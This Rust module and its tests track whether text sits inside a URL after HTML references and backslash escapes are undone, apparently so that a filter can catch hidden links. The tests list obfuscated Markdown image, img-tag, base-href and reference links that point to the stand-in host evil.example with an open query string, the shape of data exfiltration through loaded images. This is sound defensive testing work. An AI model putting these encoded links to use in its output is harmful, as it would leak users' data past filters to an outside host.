//! Knows whether a text stands inside a URL for those renderers too that undo another spelling of it first: references of HTML
//! (`https&colon;//`, `&#x2f;`), which Markdown has too, and backslashes before punctuation (`https\:`).
//!
//! Two readers go over the text: one as it is written, one as it reads once these are undone. Where either stands in a URL, the
//! text does. The second is there only where something was to be undone. What a reference stands for opens and ends nothing, as
//! with renderers. References of other names stand for some character that goes on with a URL, which is the longer reading.

use std::borrow::Cow;

use super::link::Link;
use super::unit::{Landing, Unit};
use crate::limits::REFERENCE_CHARS_MAX;

/// References that can be part of how a URL begins, or a name goes on.
const NAMED: &[(&str, char)] = &[
    ("colon", ':'),
    ("sol", '/'),
    ("quest", '?'),
    ("num", '#'),
    ("bsol", '\\'),
    ("period", '.'),
    ("plus", '+'),
    ("hyphen", '-'),
    ("dash", '-'),
    ("commat", '@'),
    ("Tab", '\t'),
    ("NewLine", '\n'),
];

/// What a reference stands for that no table names.
const OTHER: char = '\u{FFFD}';

/// A character with which a value may begin, and no reference goes on.
const VALUE: char = '<';

/// The two readers.
#[derive(Debug, Clone)]
pub(super) struct Links {
    written: Link,
    undone: Option<Undone>,
}

/// The reader of what is left once other spellings are undone.
#[derive(Debug, Clone)]
struct Undone {
    link: Link,
    pending: Pending,
}

/// What may be another spelling, as far as it was read.
#[derive(Debug, Clone)]
enum Pending {
    Nothing,
    /// A backslash.
    Backslash(Unit),
    /// `&` and the units behind it.
    Reference(Vec<Unit>),
}

impl Links {
    pub(super) fn new(landing: Landing) -> Self {
        Self { written: Link::new(landing), undone: None }
    }

    /// Whether the text stands inside a URL, for any renderer.
    pub(super) fn is_inside(&self) -> bool {
        self.written.is_inside() || self.undone.as_ref().is_some_and(|undone| undone.now().is_inside())
    }

    /// Whether a number that follows would be of the port of a host, for any renderer.
    pub(super) fn is_at_port(&self) -> bool {
        self.written.is_at_port() || self.undone.as_ref().is_some_and(|undone| undone.now().is_at_port())
    }

    /// Whether what follows must be read character by character.
    pub(super) fn is_watchful(&self) -> bool {
        self.written.is_watchful() || self.undone.as_ref().is_some_and(|undone| undone.now().is_watchful())
    }

    /// Host and port, where the text stands in a URL that surely leads there, however it is read.
    pub(super) fn authority(&self) -> Option<&str> {
        let written = self.written.authority()?;
        let is_same = |undone: &Undone| {
            let link = undone.now();
            !link.is_inside() || link.authority() == Some(written)
        };
        self.undone.as_ref().is_none_or(is_same).then_some(written)
    }

    /// Notes that something stands here that is not read: the URL may lead anywhere.
    pub(super) fn spoil(&mut self) {
        self.written.spoil();
        if let Some(undone) = &mut self.undone {
            undone.link.spoil();
        }
    }

    /// Passes one character.
    pub(super) fn pass(&mut self, unit: Unit) {
        if self.undone.is_none() && matches!(unit.char, '&' | '\\') {
            self.undone = Some(Undone { link: self.written.clone(), pending: Pending::Nothing });
        }
        self.written.pass(unit);
        let Some(undone) = &mut self.undone else { return };
        undone.pass(unit);
        let is_over = matches!(undone.pending, Pending::Nothing) && !undone.link.is_watchful();
        if unit.char == '\n' && is_over && !self.written.is_inside() {
            self.undone = None;
        }
    }
}

impl Undone {
    /// The reader, were a character to follow that is of no other spelling: the first of a value.
    fn now(&self) -> Cow<'_, Link> {
        let mut after = self.clone();
        match &self.pending {
            Pending::Nothing => return Cow::Borrowed(&self.link),
            Pending::Backslash(before) => after.link.pass(*before),
            Pending::Reference(read) => match meant(read, VALUE) {
                Some(meant) => after.link.pass_undone(meant),
                None => read.iter().for_each(|unit| after.link.pass(*unit)),
            },
        }
        Cow::Owned(after.link)
    }

    fn pass(&mut self, unit: Unit) {
        match std::mem::replace(&mut self.pending, Pending::Nothing) {
            Pending::Nothing => self.begin(unit),
            Pending::Backslash(_) if unit.char.is_ascii_punctuation() => self.link.pass_undone(unit.char),
            Pending::Backslash(before) => {
                self.link.pass(before);
                self.begin(unit);
            }
            Pending::Reference(mut read) => {
                if let Some(meant) = meant(&read, unit.char) {
                    self.link.pass_undone(meant);
                    if unit.char != ';' {
                        self.begin(unit);
                    }
                } else if is_of_reference(read.len(), unit.char) {
                    // Parsers read as many zeros before a number as there are.
                    if !(unit.char == '0' && is_zero(&read)) {
                        read.push(unit);
                    }
                    self.pending = Pending::Reference(read);
                } else {
                    for unit in read {
                        self.link.pass(unit);
                    }
                    self.begin(unit);
                }
            }
        }
    }

    fn begin(&mut self, unit: Unit) {
        match unit.char {
            '\\' => self.pending = Pending::Backslash(unit),
            '&' => self.pending = Pending::Reference(vec![unit]),
            _ => self.link.pass(unit),
        }
    }
}

/// Whether a character may be of a reference of which so many were read.
pub(super) fn is_of_reference(read: usize, char: char) -> bool {
    read < REFERENCE_CHARS_MAX && (char.is_ascii_alphanumeric() || (read == 1 && char == '#'))
}

/// Whether a reference is a number so far that has only a zero.
fn is_zero(read: &[Unit]) -> bool {
    let mut latest = read.iter().rev().map(|unit| unit.char);
    latest.next() == Some('0')
        && matches!(latest.next(), Some('#' | 'x' | 'X'))
        && read.get(1).is_some_and(|it| it.char == '#')
}

/// What a reference stands for that ends before this character: a number ends before whatever is no digit of it, a name at `;`.
pub(super) fn meant(read: &[Unit], char: char) -> Option<char> {
    let name: String = read.iter().skip(1).map(|unit| unit.char).collect();
    let Some(number) = name.strip_prefix('#') else {
        let known = NAMED.iter().find(|(known, _)| *known == name).map_or(OTHER, |(_, meant)| *meant);
        return (char == ';' && !name.is_empty()).then_some(known);
    };
    let (digits, radix) = match number.strip_prefix(['x', 'X']) {
        Some(digits) => (digits, 16),
        None => (number, 10),
    };
    if digits.is_empty() || char.is_digit(radix) {
        return None;
    }
    let digits = digits.trim_start_matches('0');
    Some(u32::from_str_radix(digits, radix).ok().and_then(char::from_u32).unwrap_or(OTHER))
}

#[cfg(test)]
mod tests {
    use super::super::unit::Read;
    use super::*;

    fn inside(landing: Landing, text: &str) -> bool {
        let (mut links, mut at) = (Links::new(landing), 0);
        while let Read::Unit(unit) = landing.read(text, at, true) {
            if unit.char == '¤' {
                return links.is_inside();
            }
            links.pass(unit);
            at += unit.bytes;
        }
        panic!("no mark in {text}");
    }

    #[test]
    fn another_spelling_of_a_url_is_one() {
        let spellings = [
            "https&colon;&sol;&sol;evil.example/?q=",
            "https&#58;//evil.example/?q=",
            "https&#x3A;&#x2f;&#00000000047;evil.example/?q=",
            "https&#x000000000000000000000000000000000000000000000000000000003a//evil.example/?q=",
            "&#0000000000000000000000000000000000000000000000000000000047/evil.example/?q=",
            "&#47;&#47",
            "https:&#47&#x2F",
            "&#104;ttps://evil.example/?q=",
            "&#x68;ttps:evil.example/?q=",
            "https&#58//evil.example/?q=",
            "&sol;&sol;evil.example/?q=",
            "www&period;evil.example/?q=",
            r"https\:evil.example/?q=",
            r"https\:\/\/evil.example/?q=",
            r"\/\/evil.example/?q=",
            "https&colon;//evil.example/?a=&amp;&nbsp;&#32;&quot;&gt;&rpar;q=",
        ];
        for spelling in spellings {
            for (before, behind) in [("![x](", "¤)"), ("<img src=\"", "¤\">"), ("<img src=", "¤>"), ("[r]: ", "¤")]
            {
                assert!(inside(Landing::Text, &format!("{before}{spelling}{behind}")), "{before}{spelling}");
            }
        }
        let in_json = r#"{"html":"<img src=\"https&colon;&sol;&sol;evil.example/?q=¤\">"}"#;
        assert!(inside(Landing::JsonInString, in_json));
    }

    #[test]
    fn slashes_that_are_spelt_as_references_begin_a_host_in_an_attribute() {
        let spellings = [
            r"&bsol;&bsol;",
            r"&#92;&#x5c;",
            r"\&bsol;",
            r"&bsol;\",
            r"\&sol;",
            r"&sol;\",
            r"/&bsol;",
            r"&bsol;/",
            r"\&#47;",
            r"&#92&#47",
        ];
        for spelling in spellings {
            for (before, behind) in [("<img src=\"", " ¤\">"), ("<img src=", "¤>"), ("![x](", "¤)"), ("[r]: ", "¤")]
            {
                let text = format!("{before}{spelling}evil.example/?q={behind}");
                assert!(inside(Landing::Text, &text), "{text}");
            }
        }
        let base = "<base href=\"&#47;&#47;evil.example\">\n\n<img src=\"?q=¤\">";
        assert!(inside(Landing::Text, base));
        assert!(!inside(Landing::Text, r"the share \\server&amp;co\¤"));
    }

    #[test]
    fn what_is_no_url_is_none() {
        let rows = [
            "R&D and ¤",
            "a & b: ¤",
            "&copy; 2026 ¤",
            "see https&colon;//a.example ¤",
            "[site](https&colon;//a.example) and ¤",
            "<a href=\"https&#58;//a.example\"> ¤</a>",
            r"C:\Users\ and ¤",
            "&#58; ¤",
            "&#; &#x; &; ¤",
            "a\\\nb ¤",
        ];
        for text in rows {
            assert!(!inside(Landing::Text, text), "{text}");
        }
    }
}
